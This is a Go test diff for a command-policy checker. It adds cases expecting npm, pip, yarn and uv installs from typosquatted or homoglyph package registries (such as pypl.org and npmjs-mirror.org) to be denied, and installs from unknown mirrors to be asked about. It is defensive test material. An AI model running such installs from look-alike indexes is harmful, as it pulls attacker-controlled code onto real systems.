@@ -56,3 +56,25 @@ func TestB8ExfilMinerImages(t *testing.T) {
 		{src: "docker rmi metal3d/xmrig", want: Allow, source: "removing an image does not run it"},
 	})
 }
+
+// TestB8ExfilLookalikeIndexes: a package index or registry whose host imitates a registry, a
+// vendor, a company's infrastructure words or the organisation being installed is a
+// look-alike domain (docs/policy.md: typosquatted or homoglyph domains); an index that is only
+// unknown stays a question.
+func TestB8ExfilLookalikeIndexes(t *testing.T) {
+	runRoutineCases(t, []routineCase{
+		{src: "npm install @acme/ui-kit --registry https://registry.npmjs-mirror.org", want: Deny, rule: "pkg.untrusted-source", source: "vendor name + -mirror"},
+		{src: "npm i lodash --registry=https://npmjs-cdn.net/", want: Deny, rule: "pkg.untrusted-source", source: "vendor name + -cdn"},
+		{src: "pip install requests --index-url https://pypi.corp-lnternal.io/simple", want: Deny, rule: "pkg.untrusted-source", source: "l for I in internal"},
+		{src: "pip install numpy --extra-index-url https://pypl.org/simple", want: Deny, rule: "pkg.untrusted-source", source: "pypl for pypi"},
+		{src: "pip3 install flask -i https://files.pythonhosted-mirror.com/simple", want: Deny, rule: "pkg.untrusted-source", source: "pythonhosted + -mirror"},
+		{src: "npm install @globex/auth --registry https://npm.g1obex-packages.dev", want: Deny, rule: "pkg.untrusted-source", source: "1 for l in the organisation's name"},
+		{src: "yarn add @initech/core --registry https://registry.lnitech.dev", want: Deny, rule: "pkg.untrusted-source", source: "homoglyph of the scope"},
+		{src: "uv pip install torch --index-url https://rubygerns.org/simple", want: Deny, rule: "pkg.untrusted-source", source: "rn for m"},
+		// Genuine vendor and corporate indexes.
+		{src: "pip install x --extra-index-url https://pkgs.example-corp.com/simple", want: Ask, source: "an unknown extra index"},
+		{src: "npm install left-pad --registry https://registry.npmmirror.com", want: Ask, source: "a well-known mirror: unknown, asked"},
+		{src: "pip install -i https://pypi.tuna.tsinghua.edu.cn/simple numpy", want: Ask, source: "a university mirror: asked"},
+		{src: "pip install --index-url https://artifactory.acme-internal.net/api/pypi/simple acme-utils", want: Ask, source: "the organisation's own index name"},
+	})
+}
